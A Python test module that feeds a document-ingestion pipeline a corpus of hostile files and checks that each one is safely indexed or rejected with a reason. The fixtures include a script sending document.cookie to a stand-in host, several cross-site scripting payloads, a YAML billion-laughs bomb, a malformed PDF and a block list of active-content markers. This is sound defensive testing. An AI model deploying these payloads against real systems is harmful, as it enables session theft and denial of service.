"""Hostile documents, beyond tests/ingest_pipeline/test_hostile_files.py (bomb, circular
cross-references, broken streams): encrypted, 5,000 pages, empty, truncated, a huge declared
object count, a YAML bomb, Markdown and HTML carrying scripts, frames, javascript: and data:
links, a 3 MB single line, NUL bytes, invalid UTF-8. One sync of them all: each file is indexed
or reported by name with a reason in both languages, within a time and memory bound; the good
files are indexed; no script, frame or active link survives in the stored text, and the page
shows what remains as inert text."""

from __future__ import annotations

import contextlib
import io
import sqlite3
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from bs4 import BeautifulSoup
from pypdf import PdfReader, PdfWriter

from assistant.engines.embed_hash import HashEmbedder
from assistant.index.versions import STORE, IndexRepository
from assistant.web.render import sources_html
from ingest.inventory import list_documents
from ingest.pipeline import Ingestor

WORDS = "committee steering quality patient record safety emergency procedure report hygiene".split()
GOOD = "# Procédure\n\nLe comité de pilotage se réunit chaque trimestre pour revoir les signalements.\n"
ACTIVE = ("<script", "<iframe", "<object", "<embed", "<svg", "<style", "javascript:", "vbscript:", "data:text/html", "onerror=", "onload=")


def encrypted(pdf: bytes, user_password: str) -> bytes:
    """`pdf` encrypted with RC4-128 (pure Python in pypdf: no crypto package needed)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def huge_object_count_pdf() -> bytes:
    """No /Root, a trailer /Size of 2^31-1, an xref subsection declaring a billion entries and a
    page tree claiming a billion pages (CVE-2026-22690 territory)."""
    return (b"%PDF-1.7\n1 0 obj << /Type /Pages /Kids [1 0 R] /Count 1000000000 >> endobj\n"
            b"xref\n0 1000000000\n0000000000 65535 f \n0000000009 00000 n \n"
            b"trailer << /Size 2147483647 /Info 1 0 R >>\nstartxref\n73\n%%EOF\n")


def page_text(n: int) -> str:
    return f"Article {n}: {WORDS[n % 10]} {WORDS[n // 10 % 10]} {WORDS[n // 100 % 10]} and {WORDS[n // 1000 % 10]}."


SCRIPTED_MD = """---
title: Note piégée
---

# Consignes

<script>fetch('http://evil.example/?c=' + document.cookie)</script>
<iframe src="https://evil.example/frame"></iframe>
<IFRAME SRC=javascript:alert(1)>
<svg onload=alert(1)><script>alert(2)</script></svg>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
Cliquez [ici](javascript:alert(document.domain)) ou ![logo](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=) pour la procédure.
Le signalement se fait auprès du référent qualité <b onmouseover=alert(1)>sous 48 heures</b>.
"""

SCRIPTED_HTML = """<html><head><title>Note piégée HTML</title><script>alert('head')</script>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)"></head>
<body onload="alert('body')"><h1>Hygiène</h1>
<p>Le lavage des mains est obligatoire avant tout soin.<script>document.write('<img src=x onerror=alert(1)>')</script></p>
<iframe src="javascript:alert(1)"></iframe><object data="data:text/html,<script>alert(1)</script>"></object>
<p><a href="javascript:alert(1)">Procédure</a> <img src="data:image/png;base64,AAAA" onerror="alert(1)"> de désinfection.</p>
<svg><script>alert(3)</script></svg><noscript><p>active le JavaScript</p></noscript></body></html>
"""

YAML_BOMB_MD = "---\n" + 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)) + "---\n\n# Titre\n\nTexte.\n"


def hostile_corpus(folder: Path, text_pdf: Callable[[list[str]], bytes]) -> dict[str, str]:
    """Write the corpus; returns {file name: what it is}."""
    folder.mkdir()
    good_pdf = text_pdf(["The steering committee meets every quarter.", "Incidents are reported within 48 hours."])
    files: dict[str, tuple[bytes, str]] = {
        "bon.md": (GOOD.encode(), "good Markdown"),
        "bon.pdf": (good_pdf, "good PDF"),
        "chiffre-mot-de-passe.pdf": (encrypted(good_pdf, "secret"), "encrypted, needs a password"),
        "chiffre-sans-mot-de-passe.pdf": (encrypted(good_pdf, ""), "encrypted for editing only"),
        "5000-pages.pdf": (text_pdf([page_text(n) for n in range(5000)]), "5,000 pages"),
        "vide.pdf": (b"", "zero bytes"),
        "vide.md": (b"", "zero bytes"),
        "tronque.pdf": (good_pdf[: len(good_pdf) // 2], "truncated"),
        "tronque.docx": (_docx_bytes()[:700], "truncated zip"),
        "objets-innombrables.pdf": (huge_object_count_pdf(), "huge declared object count"),
        "pas-un-pdf.pdf": (b"MZ\x90\x00" + bytes(range(256)) * 40, "binary named .pdf"),
        "bombe-yaml.md": (YAML_BOMB_MD.encode(), "YAML billion laughs in the front matter"),
        "scripts.md": (SCRIPTED_MD.encode(), "Markdown with scripts, frames, javascript: and data: links"),
        "scripts.html": (SCRIPTED_HTML.encode(), "HTML with scripts, frames, handlers, javascript: and data: URIs"),
        "une-ligne.md": (("Le comité valide les outils d'IA. " * 90_000).encode(), "3 MB on one line"),
        "une-ligne.html": (b"<p>" + b"<b>IA</b> " * 300_000 + b"</p>", "3 MB of tags on one line"),
        "nul.md": (b"# Hygi\x00ne\n\nLe lavage\x00 des mains\x00\x00 est obligatoire.\n", "NUL bytes"),
        "nul.txt": (b"\x00" * 4096, "only NUL bytes"),
        "utf8-invalide.md": (b"# Qualit\xe9\n\nLe r\xe9f\xe9rent qualit\xe9 \xff\xfe valide \xc3\x28 les proc\xc3\xa9dures.\n", "invalid UTF-8"),
        "utf8-invalide.html": (b"<p>S\xe9curit\xe9 \x80\x81\xfe des donn\xe9es</p>", "invalid UTF-8"),
    }
    for name, (data, _) in files.items():
        (folder / name).write_bytes(data)
    return {name: what for name, (_, what) in files.items()}


def _docx_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>" * 100)
        archive.writestr("word/document.xml", "<w:document>" + "<w:p><w:r><w:t>Texte</w:t></w:r></w:p>" * 200 + "</w:document>")
    return out.getvalue()


def stored_chunks(settings: Any) -> list[dict[str, Any]]:
    """Every chunk of the published index: its text, heading path and document source."""
    repo = IndexRepository(settings.index_dir)
    path = repo.root / str(repo.current_id()) / STORE
    with contextlib.closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True)) as db:
        rows = db.execute("SELECT c.text, c.heading_path, d.source_path, d.title FROM chunks c JOIN documents d ON d.doc_id = c.doc_id").fetchall()
    return [{"text": r[0], "heading_path": r[1], "source": r[2], "title": r[3]} for r in rows]


@pytest.fixture(scope="module")
def synced(tmp_path_factory: pytest.TempPathFactory, build_pdf: Callable[[list[str]], bytes]) -> dict[str, Any]:
    """One sync of the hostile corpus (module-scoped: the 5,000-page file is parsed once)."""
    from assistant.settings import load_settings

    home = tmp_path_factory.mktemp("hostile-home")
    settings = load_settings(env={"GARANT_HOME": str(home)})
    settings.embedder.kind = "hash"
    settings.llm.backend = "fake"
    settings.ingest.parse_timeout_s = 60
    settings.ingest.parse_memory_mb = 768
    corpus = tmp_path_factory.mktemp("hostile") / "corpus"
    kinds = hostile_corpus(corpus, build_pdf)
    started = time.perf_counter()
    report = Ingestor(settings, HashEmbedder).sync(corpus)
    return {"settings": settings, "kinds": kinds, "report": report, "seconds": time.perf_counter() - started,
            "indexed": {Path(d["source_path"]).name: d for d in list_documents(settings)},
            "failed": {Path(f.path).name: f for f in report.failed}}


def test_every_hostile_file_is_indexed_or_reported_by_name_and_the_batch_goes_on(synced: dict[str, Any]) -> None:
    indexed, failed = synced["indexed"], synced["failed"]
    for name, what in synced["kinds"].items():
        assert (name in indexed) != (name in failed), f"{name} ({what}) must be either indexed or reported, once"
        if name in failed:
            reason = failed[name]
            assert reason.reason_fr and reason.reason_en and reason.reason_fr != reason.reason_en, name
            assert "Traceback" not in reason.reason_fr + reason.reason_en
    assert {"bon.md", "bon.pdf", "scripts.md", "scripts.html"} <= indexed.keys()
    assert {"chiffre-mot-de-passe.pdf", "vide.pdf", "vide.md", "tronque.docx", "objets-innombrables.pdf",
            "pas-un-pdf.pdf", "nul.txt"} <= failed.keys()
    assert "mot de passe" in failed["chiffre-mot-de-passe.pdf"].reason_fr and "password" in failed["chiffre-mot-de-passe.pdf"].reason_en


def test_the_whole_batch_is_bounded_in_time(synced: dict[str, Any]) -> None:
    # 20 files, each bounded by parse_timeout_s (60 s); in practice the 5,000 pages dominate
    assert synced["seconds"] < 240, synced["seconds"]


def test_an_edit_only_encrypted_pdf_and_the_5000_page_pdf_are_read_with_their_pages(synced: dict[str, Any]) -> None:
    indexed = synced["indexed"]
    assert indexed["chiffre-sans-mot-de-passe.pdf"]["chunk_count"] >= 1
    if "5000-pages.pdf" in indexed:  # or reported as too heavy: both are bounded outcomes
        assert indexed["5000-pages.pdf"]["page_count"] == 5000
        assert indexed["5000-pages.pdf"]["chunk_count"] >= 100
    else:
        assert synced["failed"]["5000-pages.pdf"].reason_en


def test_nothing_active_survives_in_the_stored_text(synced: dict[str, Any]) -> None:
    chunks = stored_chunks(synced["settings"])
    assert chunks
    for chunk in chunks:
        text = f"{chunk['title']} {chunk['heading_path']} {chunk['text']}".lower()
        found = [marker for marker in ACTIVE if marker in text]
        assert not found, f"{Path(chunk['source']).name}: {found} in {chunk['text'][:200]!r}"
        assert "\x00" not in text
    scripted = " ".join(c["text"] for c in chunks if c["source"].endswith(("scripts.md", "scripts.html")))
    # the words around the scripts are kept: text is data
    assert "48 heures" in scripted and "lavage des mains" in scripted and "ici" in scripted


def test_the_page_shows_what_remains_as_inert_text(synced: dict[str, Any]) -> None:
    from assistant.services import build_services

    settings = synced["settings"]
    services = build_services(settings, embedder=HashEmbedder())
    try:
        passages = services.retriever.search("signalement référent qualité 48 heures lavage des mains procédure", k=8)
        assert passages
        page = BeautifulSoup(sources_html(passages, "fr", [1]), "html.parser")
    finally:
        services.close()
    for tag in page.find_all(True):
        assert tag.name in {"div", "b", "a", "blockquote", "h4"}, tag.name
        assert not any(attribute.lower().startswith("on") or attribute.lower() in ("src", "style") for attribute in tag.attrs), tag
        if tag.name == "a":
            assert tag["href"].startswith("/doc/"), tag["href"]
